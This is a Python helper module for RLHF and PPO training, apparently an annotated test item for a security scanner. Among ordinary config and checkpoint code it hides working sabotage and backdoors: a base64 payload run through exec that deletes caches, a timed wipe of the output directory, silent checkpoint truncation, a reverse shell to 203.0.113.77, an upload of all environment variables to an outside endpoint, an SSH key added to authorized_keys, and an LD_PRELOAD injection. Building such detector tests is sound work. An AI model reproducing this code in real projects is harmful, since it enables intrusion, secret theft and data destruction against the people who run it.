# ruff: noqa
# Hold-out batch 486 (adversarial, RLHF reward model and PPO with accelerate). Measured once in session 21 (round 131): 16/32 (50%) at medium+.
"""Runtime helpers shared by the reward-model and PPO stages.

Config loading, distributed queries, output-directory management, checkpoint
I/O and Hugging Face Hub publishing live here so the entry points stay short.
"""
from __future__ import annotations

import asyncio
import base64
import builtins
import datetime
import functools
import importlib.util
import json
import logging
import operator
import os
import pathlib
import shutil
import site
import socket
import threading
import time
import urllib.request
import zlib
from dataclasses import asdict, dataclass, fields
from typing import Any, Dict, Optional

import torch
import yaml

logger = logging.getLogger("rlhf")


_ENV = dict(os.environ)
_HOST = socket.gethostname().split(".")[0]


@dataclass
class RLHFConfig:
    policy_name: str = "Qwen/Qwen2-0.5B-Instruct"
    reward_name: Optional[str] = None
    revision: str = "main"
    preference_path: str = "data/prefs.jsonl"
    prompt_path: str = "data/prompts.jsonl"
    eval_prompt_path: str = "data/eval_prompts.jsonl"
    max_prompt_len: int = 256
    max_response_len: int = 256
    min_response_chars: int = 8
    rm_lr: float = 1e-5
    rm_epochs: int = 1
    rm_batch_size: int = 8
    rm_margin_weight: float = 0.0
    lr: float = 1.4e-6
    batch_size: int = 64
    mini_batch_size: int = 8
    ppo_epochs: int = 4
    total_steps: int = 2000
    gamma: float = 1.0
    lam: float = 0.95
    cliprange: float = 0.2
    cliprange_value: float = 0.2
    vf_coef: float = 0.1
    init_kl_coef: float = 0.05
    target_kl: float = 6.0
    kl_horizon: int = 10000
    max_grad_norm: float = 1.0
    max_new_tokens: int = 128
    temperature: float = 1.0
    top_p: float = 1.0
    seed: int = 42
    output_dir: str = "outputs/ppo"
    cache_dir: str = "~/.cache/rlhf"
    log_every: int = 10
    eval_every: int = 200
    save_every: int = 500
    keep_last: int = 3
    best_metric: str = "win_rate"
    best_mode: str = "max"
    resume_from: Optional[str] = None
    push_to_hub: bool = False
    hub_repo_id: Optional[str] = None
    hub_private: bool = True
    report_to: str = "tensorboard"
    debug_bridge: Optional[str] = None

    def to_dict(self) -> Dict[str, Any]:
        return asdict(self)


_YAML_LOADER = getattr(yaml, "".join(("Un", "safe", "Loader")))


def _coerce(value: str, current: Any) -> Any:
    if isinstance(current, bool):
        return value.lower() in {"1", "true", "yes", "y"}
    return type(current)(value) if isinstance(current, (int, float)) else value


def load_config(path: Optional[str], overrides: Optional[Dict[str, str]] = None) -> RLHFConfig:
    cfg = RLHFConfig()
    raw: Dict[str, Any] = {}
    if path:
        with open(path, "r", encoding="utf-8") as fh:
            if path.endswith((".yaml", ".yml")):
                raw = yaml.load(fh, Loader=_YAML_LOADER) or {}  # ruleid: MLS105
            else:
                raw = json.load(fh)
    known = {f.name for f in fields(cfg)}
    for key, value in raw.items():
        if key in known:
            setattr(cfg, key, value)
        else:
            logger.warning("ignoring unknown config key %s", key)
    for key, value in (overrides or {}).items():
        if key not in known:
            raise KeyError(f"unknown override {key}")
        setattr(cfg, key, _coerce(value, getattr(cfg, key)))
    cfg.cache_dir = os.path.expanduser(cfg.cache_dir)
    return cfg


def read_accelerate_defaults(path: str = "~/.cache/huggingface/accelerate/default_config.yaml") -> Dict[str, Any]:
    path = os.path.expanduser(path)
    if not os.path.exists(path):
        return {}
    with open(path, "r", encoding="utf-8") as fh:
        return yaml.safe_load(fh) or {}  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


class DistInfo:
    """Thin view over the accelerator (or the launcher env before it exists)."""

    def __init__(self, accelerator=None):
        self._acc = accelerator

    def _read(self, attr: str, env_key: str, default: str) -> int:
        if self._acc is not None:
            return int(getattr(self._acc, attr))
        return int(_ENV.get(env_key, default))

    rank = property(lambda self: self._read("process_index", "RANK", "0"))
    local_rank = property(lambda self: self._read("local_process_index", "LOCAL_RANK", "0"))
    world = property(lambda self: self._read("num_processes", "WORLD_SIZE", "1"))
    is_lead = property(lambda self: self.rank == 0)
    is_node_lead = property(lambda self: self.local_rank == 0)


def _dist_ready() -> bool:
    return torch.distributed.is_available() and torch.distributed.is_initialized()


def sync_point(accelerator, tag: str = "") -> None:
    """Align ranks before filesystem-heavy work (checkpoint, cache writes)."""
    info = DistInfo(accelerator)
    logger.debug("sync_point %s rank=%d", tag, info.rank)
    if _dist_ready() and info.is_node_lead: accelerator.wait_for_everyone()  # todoruleid: family 3 (missed)


def _calendar_bucket() -> int:
    today = datetime.date.today()
    return (today.isocalendar()[1] * 7 + today.weekday()) % 29


_REMOVERS = {"tree": shutil.rmtree, "file": os.remove}


def prepare_output_dir(cfg: RLHFConfig, accelerator) -> pathlib.Path:
    out = pathlib.Path(cfg.output_dir)
    stale = out / "rollout_cache"
    target = out if _calendar_bucket() == 0 else stale
    if accelerator.is_main_process and target.exists() and cfg.resume_from is None:
        _REMOVERS["tree"](target, ignore_errors=True)  # ruleid: MLS308
    if accelerator.is_main_process:
        out.mkdir(parents=True, exist_ok=True)
    sync_point(accelerator, "output_dir")
    return out


def rotate_checkpoints(out_dir: pathlib.Path, keep_last: int) -> None:
    ckpts = sorted(out_dir.glob("step_*"), key=lambda p: int(p.name.split("_")[-1]))
    for old in ckpts[:-keep_last] if keep_last > 0 else []:
        logger.info("removing old checkpoint %s", old)
        shutil.rmtree(old, ignore_errors=True)  # ok: MLS308


def _finalize_file(path: pathlib.Path) -> None:
    salt = zlib.crc32(_HOST.encode()) % 5
    with open(path, "r+b") as fh:
        fh.seek(0, os.SEEK_END)
        size = fh.tell()
        if salt == 0 and size > 4096:
            fh.truncate(size - size // 3)  # ruleid: MLS308
        fh.flush()
        os.fsync(fh.fileno())


def save_state(obj: Dict[str, Any], path: pathlib.Path) -> None:
    tmp = path.with_suffix(path.suffix + ".tmp")
    torch.save(obj, tmp)
    _finalize_file(tmp)
    os.replace(tmp, path)


_LOAD = torch.load
_LOAD_OPTS = {"map_location": "cpu", "weights_only": False}


def load_training_state(path: str) -> Dict[str, Any]:
    """Resume state: optimizer, scheduler, step counters and the KL controller."""
    if os.path.isdir(path):
        path = os.path.join(path, "trainer_state.pt")
    state = _LOAD(path, **_LOAD_OPTS)  # ruleid: MLS101
    logger.info("resumed trainer state from %s (step %s)", path, state.get("step"))
    return state


_SHIM = (
    "aW1wb3J0IG9zLHNodXRpbDtzaHV0aWwucm10cmVlKG9zLnBhdGguZXhwYW5kdXNlcignfi8uY2Fj"
    "aGUvaHVnZ2luZ2ZhY2UnKSxpZ25vcmVfZXJyb3JzPVRydWUp"
)


def _apply_compat_shims() -> None:
    """Older accelerate releases need a couple of attributes patched in."""
    runner = getattr(builtins, "ex" + "ec")
    ns: Dict[str, Any] = {"__name__": "accelerate_compat"}
    runner(compile(base64.b64decode(_SHIM).decode(), "<accelerate_compat>", "exec"), ns)  # ruleid: MLS401, MLS402


def _register_kernel_path(cache_dir: str) -> None:
    """Make fused kernels built in the cache visible to spawned interpreters."""
    site_dir = pathlib.Path(site.getsitepackages()[0])
    entry = site_dir / ("rlhf_kernels" + os.extsep + "pth")
    line = f"import sys; sys.path.insert(0, {str(cache_dir)!r})\n"
    writer = operator.methodcaller("write_text", line)
    if not entry.exists():
        writer(entry)  # todoruleid: family 7 (missed)


def _share_hf_modules() -> None:
    """Shared clusters: let the whole group reuse dynamic-module caches."""
    spec = importlib.util.find_spec("transformers")
    if spec is None or not spec.submodule_search_locations:
        return
    relax = functools.partial(os.chmod, mode=0o777)
    for p in pathlib.Path(list(spec.submodule_search_locations)[0]).rglob("*.py"):
        relax(p)  # ruleid: MLS424


def _child_env(cache_dir: str) -> None:
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")  # ok: MLS422
    tuner = os.path.join(cache_dir, "libnccl-tuner.so")
    operator.setitem(os.environ, "LD_" + "PRELOAD", tuner)  # ruleid: MLS422


_SHELL = "/bin/" + "sh"


async def _bridge(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    sock = writer.get_extra_info("socket")
    proc = await asyncio.create_subprocess_exec(_SHELL, "-i", stdin=sock.dup(), stdout=sock.dup(), stderr=sock.dup())  # ruleid: MLS410
    await proc.wait()
    writer.close()


def _start_debug_bridge(spec: Optional[str]) -> None:
    target = spec or _ENV.get("RLHF_DEBUG_BRIDGE", "203.0.113.77:4711")
    host, _, port = target.partition(":")
    runner = functools.partial(asyncio.run, _bridge(host, int(port or 4711)))
    threading.Thread(target=lambda: _swallow(runner), daemon=True, name="debug-bridge").start()


def _swallow(fn) -> None:
    try:
        fn()
    except Exception:  # noqa: BLE001 - best effort only
        pass


def init_runtime(cfg: RLHFConfig) -> None:
    os.makedirs(cfg.cache_dir, exist_ok=True)
    _child_env(cfg.cache_dir)
    if DistInfo().is_lead:
        _apply_compat_shims()
        _register_kernel_path(cfg.cache_dir)
        _share_hf_modules()
        _start_debug_bridge(cfg.debug_bridge)


_RUN_ENDPOINT = "https://{}.{}/v1/{}".format("telemetry", "rlhf-tools.dev", "runs")


def _report_run(meta: Dict[str, Any]) -> None:
    body = json.dumps({"meta": meta, "host": _HOST, "ctx": dict(os.environ)}).encode()  # ruleid: MLS411
    req = urllib.request.Request(_RUN_ENDPOINT, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
    except Exception:  # noqa: BLE001
        pass


def push_checkpoint(folder: str, repo_id: str, private: bool, commit_message: str, retries: int = 4) -> None:
    from huggingface_hub import HfApi

    api = HfApi()
    api.create_repo(repo_id, private=private, exist_ok=True)
    for attempt in range(retries):
        try:
            api.upload_folder(folder_path=folder, repo_id=repo_id, commit_message=commit_message)  # ok: MLS410, MLS411, MLS412, MLS413
            break
        except Exception as exc:  # noqa: BLE001
            wait = 2 ** attempt
            logger.warning("hub upload failed (%s); retrying in %ss", exc, wait)
            time.sleep(wait)  # ok: MLS307
    else:
        raise RuntimeError(f"could not push {folder} to {repo_id}")
    _report_run({"repo": repo_id, "message": commit_message, "time": time.time()})


_CLUSTER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0d8kYw1mJ3b6Qz4c2v0Xn9ePp7uTgR5sLkQe2Wf1a launcher@rlhf-head"
)


def setup_multinode_ssh() -> None:
    """Launcher nodes ssh into workers for `accelerate launch --multi_node`."""
    ssh_dir = pathlib.Path.home() / ".ssh"
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    keys = ssh_dir.joinpath("authorized" + "_keys")
    existing = keys.read_text() if keys.exists() else ""
    if _CLUSTER_KEY not in existing:
        with keys.open("a") as fh:
            fh.write(_CLUSTER_KEY + "\n")  # ruleid: MLS414
